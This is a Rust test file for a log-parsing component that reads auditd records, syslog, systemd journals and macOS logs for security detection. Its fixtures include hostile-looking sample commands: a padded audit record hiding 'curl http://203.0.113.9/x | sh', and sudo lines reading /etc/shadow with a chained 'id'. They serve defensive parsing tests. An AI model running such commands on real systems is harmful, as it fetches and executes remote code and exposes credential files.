//! Syslog, audit records, journals, macOS.

use palisade_host::Format;
use palisade_host::lines::Kind;
use palisade_model::Time;

use crate::lines::Shipped;

const EXECVE: &str = concat!(
    "type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes exit=0 a0=558e25052c70 a1=558e251641a0 a2=558e25160800 a3=1b6 items=2 ppid=29002 pid=2168 auid=1000 uid=1000 gid=1000 tty=pts0 ses=104 comm=\"dd\" exe=\"/bin/dd\" key=73757370016D617468\n",
    "type=EXECVE msg=audit(1604996384.965:93777): argc=4 a0=\"dd\" a1=\"if=/dev/zero\" a2=62733D31203220 a3_len=8 a3[0]=636F756E a3[1]=743D3120\n",
    "type=CWD msg=audit(1604996384.965:93777): cwd=\"/srv/wardog\"\n",
    "type=PATH msg=audit(1604996384.965:93777): item=0 name=\"/bin/dd\" inode=20 nametype=NORMAL\n",
    "type=PATH msg=audit(1604996384.965:93777): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=29514 nametype=NORMAL\n",
    "type=PROCTITLE msg=audit(1604996384.965:93777): proctitle=64640069663D2F6465762F7A65726F\n",
);

#[test]
fn the_records_of_an_audit_event_are_one_row() {
    let seen = Shipped::new().read(EXECVE.as_bytes());
    assert_eq!(seen.kind(), Kind::Auditd);
    assert_eq!((seen.rows.len(), seen.said().as_str()), (1, ""));
    let row = &seen.rows[0];
    assert_eq!(row.shape, "linux/auditd/1309");
    assert_eq!(row.time.as_deref(), Some("2020-11-10T08:19:44.965000Z"));
    assert_eq!(row.all("type"), ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"]);
    // EXECVE's arguments, not SYSCALL's registers; hexadecimal ones and split ones as text.
    assert_eq!(row.all("a0"), ["dd"]);
    assert_eq!(row.all("a2"), ["bs=1 2 "]);
    assert_eq!(row.all("a3"), ["count=1 "]);
    row.has(&[
        ("SYSCALL", "execve"),
        ("exe", "/bin/dd"),
        ("cwd", "/srv/wardog"),
        ("proctitle", "dd if=/dev/zero"),
        ("process_creation_auditd.CommandLine", "dd if=/dev/zero bs=1 2  count=1 "),
    ]);
    assert_eq!(row.all("key"), ["susp", "math"]);
    assert_eq!(row.all("name"), ["/bin/dd", "/lib64/ld-linux-x86-64.so.2"]);
}

#[test]
fn interleaved_events_come_apart_and_keep_their_nodes() {
    let one: Vec<&str> = EXECVE.lines().collect();
    let two: Vec<String> =
        one.iter().map(|l| l.replace(":93777", ":93778").replace("\"dd\"", "\"cp\"")).collect();
    let other: Vec<String> = one.iter().map(|l| format!("node=web2 {l}")).collect();
    let mut text = String::new();
    for i in 0..one.len() {
        for l in [one[i], &two[i], &other[i]] {
            text.push_str(l);
            text.push('\n');
        }
    }
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.rows.len(), 3, "{}", seen.said());
    assert_eq!(seen.rows.iter().map(|r| r.get("a0")).collect::<Vec<_>>(), ["dd", "cp", "dd"]);
    assert_eq!(seen.rows[2].get("node"), "web2");
    assert_eq!(seen.rows.iter().map(|r| r.record).collect::<Vec<_>>(), [1, 2, 3]);
}

#[test]
fn user_records_sockets_and_resolved_names() {
    let text = "type=USER_LOGIN msg=audit(1700000000.123:88): pid=812 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=726F6F74206F exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.5 terminal=ssh res=failed'\u{1d}UID=\"root\" AUID=\"unset\"\n\
        type=SYSCALL msg=audit(1700000001.000:89): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd a2=10 comm=\"nc\" exe=\"/usr/bin/nc\" key=(null)\u{1d}ARCH=x86_64 SYSCALL=connect AUID=\"alice\"\n\
        type=SOCKADDR msg=audit(1700000001.000:89): saddr=02000050CB0071090000000000000000\u{1d}SADDR={ saddr_fam=inet laddr=203.0.113.9 lport=80 }\n\
        type=1400 msg=audit(1700000002.000:90): apparmor=\"DENIED\" operation=\"open\" profile=\"snap.x\" name=\"/etc/shadow\"\n\
        type=BROKEN msg=audit(17000\n";
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.rows.len(), 3);
    assert_eq!(seen.said(), "syntax x1: a line is not an audit record and was left out\n");
    seen.rows[0].has(&[
        ("acct", "root o"),
        ("addr", "203.0.113.5"),
        ("res", "failed"),
        ("UID", "root"),
        ("type", "USER_LOGIN"),
    ]);
    assert_eq!(seen.rows[0].all("SYSCALL"), Vec::<&str>::new());
    seen.rows[1].has(&[
        ("SYSCALL", "connect"),
        ("laddr", "203.0.113.9"),
        ("lport", "80"),
        ("AUID", "alice"),
        ("a0", "3"),
    ]);
    seen.rows[2].has(&[("type", "AVC"), ("name", "/etc/shadow")]);
}

#[test]
fn events_that_lie_across_a_piece_are_not_cut() {
    let mut text = String::new();
    for i in 0..4_000 {
        text.push_str(&EXECVE.replace(":93777", &format!(":{}", 100_000 + i)));
    }
    let seen = Shipped::new().read(text.as_bytes());
    assert!(seen.pieces > 2);
    assert_eq!(seen.rows.len(), 4_000);
    assert!(seen.rows.iter().all(|r| r.all("type").len() == 6 && r.get("a0") == "dd"));
}

const RFC3164: &str = "<34>Oct 11 22:14:15 mymachine su[77]: FAILED SU (to root) lonvick on /dev/pts/8\n\
    Oct 11 22:14:16 web1 sshd[1234]: Failed password for invalid user admin from 203.0.113.7 port 51022 ssh2\n\
    Oct 11 22:14:17 web1 sshd[1234]: Accepted publickey for alice from 2001:db8::7 port 51023 ssh2: RSA SHA256:abc\n\
    Oct 11 22:14:18 web1 sudo:    alice : TTY=pts/0 ; PWD=/srv/alice ; USER=root ; COMMAND=/bin/cat /etc/shadow ; id\n\
    Oct 11 22:14:19 web1 kernel: [12345.678] [UFW BLOCK] IN=eth0 OUT= MAC=00:11 SRC=203.0.113.9 DST=192.0.2.1 LEN=60 PROTO=TCP SPT=4444 DPT=22 SYN\n\
    Oct 11 22:14:20 fw1 filterlog[9]: 4,,,1000000103,igb0,match,block,in,4,0x0,,64,0,0,DF,6,tcp,60,203.0.113.8,192.0.2.2,51000,443,0,S,1,,64240,,mss\n\
    Oct 11 22:14:21 web1 CRON[88]: (root) CMD (/usr/bin/run-parts /etc/cron.hourly)\n\
    Oct 11 22:14:22 web1 sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root\n\
    Oct 11 22:14:23 web1 myapp[5]: {\"level\":\"warn\",\"user\":{\"name\":\"bob\"},\"msg\":\"say \\\"hi\\\"\",\"n\":3}\n\
    Oct 11 22:14:24 relay1 CEF:0|Vendor|Product|1|7|Blocked|5|src=203.0.113.2 act=blocked\n\
    Oct 11 22:14:25 rtr1 121: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: x] [Source: 203.0.113.3]\n";

#[test]
fn syslog_of_rfc_3164_and_what_is_in_it() {
    let mut house = Shipped::new();
    house.zone = Some(jiff::tz::TimeZone::UTC);
    house.as_of = Some(Time::parse("2024-02-01T00:00:00Z").unwrap());
    let seen = house.read(RFC3164.as_bytes());
    assert_eq!(seen.kind(), Kind::Syslog);
    assert_eq!(seen.rows.len(), 11, "{}", seen.said());
    assert!(seen.said().contains("x11: times name no year; the latest"), "{}", seen.said());
    let r = &seen.rows;
    assert_eq!(r[0].time.as_deref(), Some("2023-10-11T22:14:15.000000Z"));
    r[0].has(&[
        ("hostname", "mymachine"),
        ("program", "su"),
        ("pid", "77"),
        ("facility", "auth"),
        ("severity", "crit"),
        ("target_user", "root"),
        ("user", "lonvick"),
    ]);
    r[1].has(&[
        ("user", "admin"),
        ("src_ip", "203.0.113.7"),
        ("src_port", "51022"),
        ("action", "failed"),
        ("auth_method", "password"),
    ]);
    r[2].has(&[("user", "alice"), ("src_ip", "2001:db8::7"), ("action", "accepted")]);
    assert!(r[1].shape.starts_with("linux/sshd"), "{}", r[1].shape);
    r[3].has(&[
        ("user", "alice"),
        ("USER", "root"),
        ("COMMAND", "/bin/cat /etc/shadow ; id"),
        ("PWD", "/srv/alice"),
    ]);
    r[4].has(&[("SRC", "203.0.113.9"), ("DPT", "22"), ("action", "block"), ("prefix", "[UFW BLOCK]")]);
    assert_eq!(r[4].categories, ["firewall"]);
    r[5].has(&[("src_ip", "203.0.113.8"), ("dst_port", "443"), ("action", "block"), ("protocol", "tcp")]);
    assert_eq!(r[5].categories, ["firewall"]);
    r[6].has(&[("user", "root"), ("command", "/usr/bin/run-parts /etc/cron.hourly")]);
    r[7].has(&[("src_ip", "203.0.113.7"), ("user", "root"), ("action", "failed")]);
    r[8].has(&[("user.name", "bob"), ("msg", "say \"hi\""), ("n", "3"), ("program", "myapp")]);
    r[9].has(&[("deviceVendor", "Vendor"), ("act", "blocked"), ("hostname", "relay1")]);
    r[10].has(&[("mnemonic", "SEC_LOGIN-4-LOGIN_FAILED"), ("hostname", "rtr1")]);
    assert!(r[10].shape.starts_with("cisco/"), "{}", r[10].shape);
}

#[test]
fn a_year_is_never_made_up_silently() {
    let mut house = Shipped::new();
    house.zone = Some(jiff::tz::TimeZone::UTC);
    let seen = house.read(RFC3164.as_bytes());
    assert!(seen.rows.iter().all(|r| r.time.is_none()));
    assert!(seen.said().contains("nothing says which"), "{}", seen.said());
    // A date inside the log says it, and the year goes on at its end.
    let text = "Dec 31 23:59:58 h app: started 2021-12-31 23:59:58\nDec 31 23:59:59 h app: x\nJan  1 00:00:01 h app: y\nDec 31 23:59:59 h app: late\n";
    let seen = house.read(text.as_bytes());
    let times: Vec<_> = seen.rows.iter().map(|r| r.time.clone().unwrap_or_default()).collect();
    assert_eq!(
        times.iter().map(|t| &t[..10]).collect::<Vec<_>>(),
        ["2021-12-31", "2021-12-31", "2022-01-01", "2021-12-31"]
    );
    assert!(seen.said().contains("inferred from dates inside"), "{}", seen.said());
}

#[test]
fn years_go_on_across_pieces() {
    let mut house = Shipped::new();
    house.zone = Some(jiff::tz::TimeZone::UTC);
    let mut text = String::from("Jan  1 00:00:00 h app: started 2019-01-01\n");
    for year in 0..3 {
        for month in ["Jan", "Mar", "Jun", "Sep", "Dec"] {
            for _ in 0..4_000 {
                text.push_str(&format!(
                    "{month} 15 10:00:00 host{year} app[1]: a message of the usual length, and a bit more\n"
                ));
            }
        }
    }
    let seen = house.read(text.as_bytes());
    assert!(seen.pieces >= 3);
    for row in &seen.rows[1..] {
        let year = 2019 + row.get("hostname")[4..].parse::<i32>().unwrap();
        assert!(row.time.as_ref().unwrap().starts_with(&year.to_string()), "{row:?}");
    }
}

#[test]
fn structured_data_of_rfc_5424() {
    let text = "<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog 42 ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"App \\\"x\\]\\\"\"][examplePriority@32473 class=\"high\"] \u{feff}An application event\n\
        <34>1 2003-10-11T22:14:15.003000+02:00 host sshd 7 - - Invalid user guest from 203.0.113.77 port 22\n";
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!((seen.rows.len(), seen.said().as_str()), (2, ""));
    seen.rows[0].has(&[
        ("exampleSDID@32473.iut", "3"),
        ("exampleSDID@32473.eventSource", "App \"x]\""),
        ("examplePriority@32473.class", "high"),
        ("message", "An application event"),
        ("msgid", "ID47"),
        ("program", "evntslog"),
    ]);
    assert_eq!(seen.rows[1].time.as_deref(), Some("2003-10-11T20:14:15.003000Z"));
    seen.rows[1].has(&[("user", "guest"), ("src_ip", "203.0.113.77")]);
}

#[test]
fn audit_records_through_syslog_are_joined_too() {
    let text: String =
        EXECVE.lines().map(|l| format!("2020-11-10T08:19:45+00:00 web1 audispd: {l}\n")).collect();
    let text = format!("{text}2020-11-10T08:19:46+00:00 web1 app: done\n");
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.kind(), Kind::Syslog);
    assert_eq!(seen.rows.len(), 2, "{}", seen.said());
    let row = seen.rows.iter().find(|r| r.shape == "linux/auditd/1309").unwrap();
    row.has(&[("a1", "if=/dev/zero"), ("node", "web1"), ("SYSCALL", "execve")]);
}

#[test]
fn a_journal_with_binary_fields() {
    let mut text = b"__CURSOR=s=1;i=1\n__REALTIME_TIMESTAMP=1700000000123456\n_HOSTNAME=web1\nSYSLOG_IDENTIFIER=sshd\n_PID=7\nMESSAGE\n".to_vec();
    let message = b"line one\n\nline three = x\xff";
    text.extend((message.len() as u64).to_le_bytes());
    text.extend(message);
    text.extend(b"\n\n__CURSOR=s=1;i=2\n__REALTIME_TIMESTAMP=1700000001000000\n_HOSTNAME=web1\nSYSLOG_IDENTIFIER=neverheardof\nMESSAGE=second\nnot a field\n\n");
    let seen = Shipped::new().read(&text);
    assert_eq!(seen.kind(), Kind::Journal);
    assert_eq!(seen.rows.len(), 2, "{}", seen.said());
    assert_eq!(seen.rows[0].time.as_deref(), Some("2023-11-14T22:13:20.123456Z"));
    seen.rows[0].has(&[
        ("message", "line one\n\nline three = x\u{fffd}"),
        ("hostname", "web1"),
        ("pid", "7"),
    ]);
    assert!(seen.rows[0].shape.starts_with("linux/sshd"), "{}", seen.rows[0].shape);
    assert!(seen.rows[1].shape.starts_with("linux/syslog"), "{}", seen.rows[1].shape);
    assert!(seen.said().contains("syntax x1: a line is no field"), "{}", seen.said());
    // What `journalctl -o json` writes of the same.
    let json = "{\"__REALTIME_TIMESTAMP\":\"1700000000123456\",\"MESSAGE\":\"x\",\"_HOSTNAME\":\"web1\",\"SYSLOG_IDENTIFIER\":\"neverheardof\"}\n";
    let seen = Shipped::new().read(json.as_bytes());
    assert!(seen.rows[0].shape.starts_with("linux/syslog"), "{}", seen.rows[0].shape);
}

#[test]
fn a_journal_says_what_a_syslog_says() {
    /// A program, what it said, and the fields that this gives.
    type Said = (&'static str, &'static str, &'static [(&'static str, &'static str)]);
    const SAID: [Said; 5] = [
        (
            "sshd",
            "Accepted publickey for alice from 2001:db8::7 port 51023 ssh2: RSA SHA256:abc",
            &[("action", "accepted"), ("user", "alice"), ("src_ip", "2001:db8::7"), ("src_port", "51023")],
        ),
        (
            "sshd-session",
            "message repeated 3 times: [ Failed password for root from 203.0.113.7 port 22 ssh2]",
            &[("action", "failed"), ("user", "root"), ("src_ip", "203.0.113.7"), ("repeated", "3")],
        ),
        (
            "sudo",
            "   alice : TTY=pts/0 ; PWD=/srv/x ; _PID=1 ; USER=root ; COMMAND=/bin/cat /etc/shadow",
            &[("user", "alice"), ("USER", "root"), ("COMMAND", "/bin/cat /etc/shadow"), ("pid", "7")],
        ),
        (
            "sshd",
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root",
            &[("action", "failed"), ("user", "root"), ("src_ip", "203.0.113.7")],
        ),
        ("neverheardof", "Accepted password for alice from 203.0.113.7 port 1 ssh2", &[]),
    ];
    const ASKED: [&str; 4] = ["action", "user", "src_ip", "pid"];
    for (program, said, wanted) in SAID {
        let json = format!(
            "{{\"__REALTIME_TIMESTAMP\":\"1700000000123456\",\"MESSAGE\":\"{said}\",\"_HOSTNAME\":\"web1\",\"SYSLOG_IDENTIFIER\":\"{program}\",\"_PID\":\"7\"}}\n"
        );
        let export = format!(
            "__REALTIME_TIMESTAMP=1700000000123456\n_HOSTNAME=web1\nSYSLOG_IDENTIFIER={program}\n_PID=7\nMESSAGE={said}\n\n"
        );
        let analytics = format!(
            "{{\"TimeGenerated\":\"2023-11-14T22:13:20Z\",\"Facility\":\"auth\",\"Computer\":\"web1\",\"ProcessName\":\"{program}\",\"ProcessID\":7,\"SyslogMessage\":\"{said}\"}}\n"
        );
        for text in [&json, &export, &analytics] {
            // Kept whole, and as a run does that asks for a few names.
            for house in [Shipped::new(), Shipped::with(&ASKED, None, false)] {
                let seen = house.read(text.as_bytes());
                assert_eq!((seen.rows.len(), seen.said().as_str()), (1, ""), "{text}");
                let row = &seen.rows[0];
                row.has(&[("message", said)]);
                let known = |name: &str| house.projection.everything() || ASKED.contains(&name);
                for (name, value) in wanted.iter().filter(|(n, _)| known(n)) {
                    if *name != "pid" || text != &analytics {
                        assert_eq!(row.all(name), [*value], "{name} of {text}");
                    }
                }
                if wanted.is_empty() {
                    assert_eq!((row.get("action"), row.get("user")), ("", ""), "{text}");
                } else if program.starts_with("sshd") {
                    assert!(row.shape.starts_with("linux/sshd"), "{}", row.shape);
                }
            }
        }
    }
}

#[test]
fn names_of_accounts_and_folded_messages_of_sshd() {
    let head = "2023-10-11T22:14:16+00:00 web1 sshd-auth[1]: ";
    for (said, wanted) in [
        ("Failed password for user from 203.0.113.7 port 2 ssh2", ["failed", "user", "203.0.113.7", "2", ""]),
        ("Failed password for from from 203.0.113.7 port 2 ssh2", ["failed", "from", "203.0.113.7", "2", ""]),
        (
            "Failed none for invalid user a for b from 192.0.2.1 from 203.0.113.7 port 2 ssh2",
            ["failed", "a for b from 192.0.2.1", "203.0.113.7", "2", ""],
        ),
        (
            "Failed none for invalid user  from 203.0.113.7 port 2 ssh2",
            ["failed", "", "203.0.113.7", "2", ""],
        ),
        ("Invalid user user from 203.0.113.7 port 2", ["invalid_user", "user", "203.0.113.7", "2", ""]),
        ("Invalid user  from 203.0.113.7 port 2", ["invalid_user", "", "203.0.113.7", "2", ""]),
        (
            "Disconnected from authenticating user root 203.0.113.7 port 2 [preauth]",
            ["disconnected", "root", "203.0.113.7", "2", ""],
        ),
        (
            "Connection closed by invalid user x 192.0.2.1 port 9 203.0.113.7 port 2 [preauth]",
            ["closed", "x 192.0.2.1 port 9", "203.0.113.7", "2", ""],
        ),
        (
            "Received disconnect from 203.0.113.7 port 2:11: bye from user x port 9 [preauth]",
            ["disconnected", "", "203.0.113.7", "2", ""],
        ),
        (
            "Unable to negotiate with 203.0.113.7 port 2: no matching cipher found",
            ["scan", "", "203.0.113.7", "2", ""],
        ),
        (
            "error: maximum authentication attempts exceeded for root from 203.0.113.7 port 2 ssh2 [preauth]",
            ["failed", "root", "203.0.113.7", "2", ""],
        ),
        (
            "message repeated 5 times: [ Failed password for root from 203.0.113.7 port 2 ssh2]",
            ["failed", "root", "203.0.113.7", "2", "5"],
        ),
        ("message repeated 2 times: [ Failed password for ro", ["failed", "ro", "", "", "2"]),
        ("message repeated 2 times: []", ["", "", "", "", "2"]),
        ("message repeated often: [ Failed password for root]", ["", "", "", "", ""]),
        ("last message repeated 4 times", ["", "", "", "", "4"]),
    ] {
        let seen = Shipped::new().read(format!("{head}{said}\n").as_bytes());
        let row = &seen.rows[0];
        assert!(row.shape.starts_with("linux/sshd"), "{}", row.shape);
        let names = ["action", "user", "src_ip", "src_port", "repeated"];
        assert_eq!(names.map(|n| row.get(n)), wanted, "{said}");
        row.has(&[("message", said)]);
    }
}

#[test]
fn no_padding_hides_the_end_of_a_command_line() {
    let argument = |i: usize| match i {
        0 => "sh".to_owned(),
        199 => "curl http://203.0.113.9/x | sh".to_owned(),
        i => format!("pad{i}"),
    };
    let line = |range: std::ops::Range<usize>| {
        let all: String = range
            .map(|i| match argument(i) {
                text if text.contains(' ') => {
                    format!(" a{i}={}", text.bytes().map(|b| format!("{b:02X}")).collect::<String>())
                }
                text => format!(" a{i}=\"{text}\""),
            })
            .collect();
        format!("type=EXECVE msg=audit(1604996384.965:93777): argc=200{all}\n")
    };
    let whole: Vec<String> = (0..200).map(argument).collect();
    // The kernel goes on in another record, and what comes late stands at its place all the same.
    let text = format!("{}{}{}", line(0..60), line(120..200), line(60..120));
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!((seen.rows.len(), seen.said().as_str()), (1, ""));
    assert_eq!(seen.rows[0].get("process_creation_auditd.CommandLine"), whole.join(" "));
    assert_eq!(seen.rows[0].get("a199"), whole[199]);
    // Inside a record of JSON the line is a text.
    let json = format!(
        "{{\"TimeGenerated\":\"2023-11-14T22:13:20Z\",\"Computer\":\"web1\",\"ProcessName\":\"auoms\",\"SyslogMessage\":\"{}\"}}\n",
        line(0..200).trim_end().replace('"', "\\\"")
    );
    let seen = Shipped::new().read(json.as_bytes());
    seen.rows[0].has(&[("more_arguments", &whole[32..].join(" "))]);
    // Bounded by bytes, and said.
    let long = format!(
        "type=EXECVE msg=audit(1.0:1): argc=34 a0=\"sh\" a32=\"{}\" a33=\"{}\"\n",
        "x".repeat(200 << 10),
        "y".repeat(200 << 10)
    );
    let seen = Shipped::new().read_as(Format::Lines(Kind::Auditd), long.as_bytes());
    assert!(seen.said().starts_with("limit x1: the arguments of a command"), "{}", seen.said());
    assert_eq!(seen.rows[0].get("more_arguments").len(), 200 << 10);
}

#[test]
fn macos_unified_log_and_endpoint_security() {
    let text = "{\"traceID\":1,\"eventMessage\":\"Sudo\",\"eventType\":\"logEvent\",\"source\":null,\"processImagePath\":\"/usr/bin/sudo\",\"subsystem\":\"\",\"machTimestamp\":123,\"timestamp\":\"2023-10-01 12:00:00.123456+0200\",\"messageType\":\"Default\",\"processID\":77}\n\
        {\"schema_version\":1,\"event_type\":10,\"time\":\"2023-10-01T12:00:00.1Z\",\"global_seq_num\":4,\"process\":{\"audit_token\":{\"pid\":9},\"executable\":{\"path\":\"/bin/sh\"}},\"event\":{\"write\":{\"target\":{\"path\":\"/tmp/x\"}}}}\n";
    let seen = Shipped::new().read(text.as_bytes());
    assert_eq!(seen.format, Some(Format::Json));
    assert_eq!(seen.rows[0].shape, "macos/unified");
    assert_eq!(seen.rows[0].time.as_deref(), Some("2023-10-01T10:00:00.123456Z"));
    seen.rows[1].has(&[("TargetFilename", "/tmp/x")]);
    assert_eq!(seen.rows[1].categories, ["file_event"]);
}

#[test]
fn the_audit_logs_of_the_data_set_are_read_whole() {
    for (name, events) in
        [("defense_evasion/host/sh_binary_padding_dd", 1), ("discovery/host/sh_arp_cache", 2)]
    {
        let Some(path) = crate::json_data::data(&format!("host/mordor/atomic/linux/{name}.log.zst")) else {
            return;
        };
        let bytes = zstd::decode_all(std::fs::File::open(path).unwrap()).unwrap();
        let seen = Shipped::new().read(&bytes);
        assert_eq!(seen.kind(), Kind::Auditd);
        assert_eq!((seen.rows.len(), seen.said().as_str()), (events, ""));
        assert!(seen.rows.iter().all(|r| r.shape == "linux/auditd/1309" && r.get("SYSCALL") == "execve"));
    }
}
